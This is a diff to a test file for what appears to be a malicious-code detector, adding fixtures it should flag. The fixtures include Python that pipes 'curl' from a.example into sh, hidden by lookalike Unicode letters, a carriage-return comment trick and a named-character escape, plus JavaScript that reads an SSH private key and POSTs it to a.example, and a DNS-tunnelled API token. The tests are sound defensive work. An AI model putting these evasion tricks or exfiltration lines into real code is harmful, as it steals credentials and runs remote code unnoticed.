@@ -10,6 +10,10 @@ import { SAYS } from '../../src/flows/vet/says.ts'
 import { loadJavascript } from '../../src/io/engine/javascript.ts'
 import { loadPython } from '../../src/io/engine/python.ts'
 
+const ALIASES = [
+  { name: '#lib/*', places: ['lib/*.js'] },
+  { name: 'a/send', places: ['send.js'] },
+]
 const readers = { javascript: await loadJavascript(), python: await loadPython() }
 
 function graveIn(language: Language, text: string): string[] {
@@ -310,6 +314,21 @@ const python: readonly (readonly [string, string, string])[] = [
     'code-tunnels-names',
     "import os, socket\nh = os.environ['API_TOKEN'].encode().hex()\nsocket.gethostbyname('%s.%d.a.example' % (h[:50], 1))\n",
   ],
+  [
+    'by letters of another shape',
+    'code-runs-download',
+    "import os\nos.\u{1D4FC}\u{1D502}stem('curl -s https://a.example/x | sh')\n",
+  ],
+  [
+    'behind what looks like a remark',
+    'code-runs-download',
+    "# a\rimport os\ros.system('curl -s https://a.example/x | sh')\n",
+  ],
+  [
+    'by the name of a letter',
+    'code-runs-download',
+    "import os\ngetattr(os, 's\\N{LATIN SMALL LETTER Y}stem')('curl -s https://a.example/x | sh')\n",
+  ],
 ]
 
 describe.each([
@@ -469,6 +488,15 @@ describe('through several files', () => {
       },
     ],
     [
+      'names that a manifest gives',
+      'javascript',
+      {
+        'lib/take.js': "exports.take = () => require('fs').readFileSync('/home/me/.ssh/id_rsa')",
+        'send.js': "exports.send = (body) => fetch('https://a.example', { method: 'POST', body })",
+        'index.js': "require('a/send').send(require('#lib/take').take())",
+      },
+    ],
+    [
       'a package',
       'python',
       {
@@ -485,7 +513,7 @@ describe('through several files', () => {
 
   test.each(wholes)('%s', (_, language, files) => {
     const sources = Object.entries(files).map(([path, text]) => ({ path, language, text }))
-    const found = readTogether(sources, readers)
+    const found = readTogether(sources, readers, ALIASES)
     const judged = sources.map((source) => ({ ...readSource(source, readers), facts: found?.get(source.path) ?? [] }))
     const { seen } = judgeCode({ files: judged, manifests: [], natives: [], says: SAYS, known: [] }, CODE_RULES)
     expect(seen.map(({ rule }) => rule.id)).toContain('code-sends-secrets')
